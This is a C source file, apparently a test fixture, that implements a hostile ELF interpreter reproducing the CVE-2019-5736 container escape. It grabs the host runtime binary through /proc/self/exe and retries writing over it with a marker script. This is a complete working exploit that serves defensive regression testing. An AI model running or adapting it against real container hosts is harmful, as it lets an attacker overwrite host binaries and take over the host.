/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A hostile image's ELF interpreter for the CVE-2019-5736 tests (test-cve-2019-5736.sh): installed as the
 * rootfs's /lib64/ld-linux-x86-64.so.2, it runs whenever a dynamically linked binary is executed in the
 * container, such as the host's runtime reached through /proc/self/exe. Static, without libc (it is loaded
 * next to another program, whose auxiliary vector it must not mistake for its own).
 *
 * It logs what /proc/self/exe is to /dev/shm/attack.log, keeps an fd on it, and starts a writer (itself,
 * executed as "evil-writer FD": a fork alone would keep the file busy) that tries for 20 s to reopen that fd
 * for writing (ETXTBSY while the file is being executed) and to overwrite its first bytes. PID 1 (a
 * container's init) then executes /bin/sleep 600 to keep the container up; anything else exits 0. Log lines: "exe PATH", "written", "open-write errno N", "write errno N", "gave up". */
#include <asm/unistd.h>
#include <stddef.h>

#if !defined(__x86_64__)
#error "evil-ldso: x86_64 only"
#endif

static long sys6(long n, long a, long b, long c, long d, long e, long f) {
        register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
        long r;
        __asm__ volatile("syscall"
                         : "=a"(r)
                         : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                         : "rcx", "r11", "memory");
        return r;
}
#define sys3(n, a, b, c) sys6(n, (long) (a), (long) (b), (long) (c), 0, 0, 0)

__asm__(".text\n.global _start\n_start:\n\txor %rbp, %rbp\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n"
        "\tcall evil_main\n\thlt\n");

static size_t slen(const char *s) {
        size_t n = 0;
        while (s[n])
                n++;
        return n;
}

static void logs(const char *a, const char *b) {
        long fd = sys3(__NR_open, "/dev/shm/attack.log", 02 | 0100 | 02000 /* O_RDWR|O_CREAT|O_APPEND */, 0644);
        char buf[512];
        size_t n = 0;

        if (fd < 0)
                return;
        for (const char *s = a; *s && n < 250; s++)
                buf[n++] = *s;
        for (const char *s = b; s && *s && n < 500; s++)
                buf[n++] = *s;
        buf[n++] = '\n';
        (void) sys3(__NR_write, fd, buf, n);
        (void) sys3(__NR_close, fd, 0, 0);
}

static void num(long v, char *out) {
        char t[24];
        int n = 0, k = 0;

        if (v < 0) {
                out[k++] = '-';
                v = -v;
        }
        do
                t[n++] = (char) ('0' + v % 10);
        while ((v /= 10) && n < 20);
        while (n)
                out[k++] = t[--n];
        out[k] = 0;
}

__attribute__((noreturn)) static void quit(int st) {
        for (;;)
                (void) sys3(__NR_exit_group, st, 0, 0);
}

__attribute__((noreturn, used)) void evil_main(long *sp);
__attribute__((noreturn)) static void writer(const char *fdpath) {
        static const char payload[] = "#!/bin/sh\necho CVE-2019-5736: the host's runtime binary was overwritten\n";
        struct {
                long s, ns;
        } tick = { 0, 50 * 1000 * 1000 };
        char nb[24];

        for (int i = 0; i < 400; i++) {
                long w = sys3(__NR_open, fdpath, 01 /* O_WRONLY */, 0);
                if (w >= 0) {
                        long r = sys6(__NR_pwrite64, w, (long) payload, sizeof payload - 1, 0, 0, 0);
                        if (r > 0)
                                logs("written", NULL);
                        else {
                                num(-r, nb);
                                logs("write errno ", nb);
                        }
                        quit(0);
                }
                if (w != -26 /* ETXTBSY */) {
                        num(-w, nb);
                        logs("open-write errno ", nb);
                        quit(0);
                }
                (void) sys3(__NR_nanosleep, &tick, 0, 0);
        }
        logs("gave up", NULL);
        quit(0);
}

__attribute__((noreturn, used)) void evil_main(long *sp) {
        char exe[256] = "", fdpath[64] = "/proc/self/fd/", nb[24];
        long fd, pid, k;

        if (sp[0] == 2 && ((char **) (sp + 1))[0][0] == 'e' && slen(((char **) (sp + 1))[0]) == 11)
                writer(((char **) (sp + 1))[1]);
        k = sys3(__NR_readlink, "/proc/self/exe", exe, sizeof exe - 1);
        if (k > 0)
                exe[k] = 0;
        logs("exe ", exe);
        fd = sys3(__NR_open, "/proc/self/exe", 0 /* O_RDONLY */, 0);
        if (fd < 0) {
                num(-fd, nb);
                logs("open errno ", nb);
                quit(0);
        }
        num(fd, nb);
        for (size_t i = 0, o = slen(fdpath); nb[i]; i++, o++)
                fdpath[o] = nb[i], fdpath[o + 1] = 0;

        pid = sys3(__NR_fork, 0, 0, 0);
        if (pid == 0) {
                char *argv[] = { (char *) "evil-writer", fdpath, 0 };
                char *envp[] = { 0 };
                (void) sys3(__NR_execve, "/lib64/ld-linux-x86-64.so.2", argv, envp);
                logs("cannot start the writer", NULL);
                quit(0);
        }
        if (sys3(__NR_getpid, 0, 0, 0) == 1) {
                char *argv[] = { (char *) "sleep", (char *) "600", 0 };
                char *envp[] = { 0 };
                (void) sys3(__NR_execve, "/bin/sleep", argv, envp);
        }
        quit(0);
}
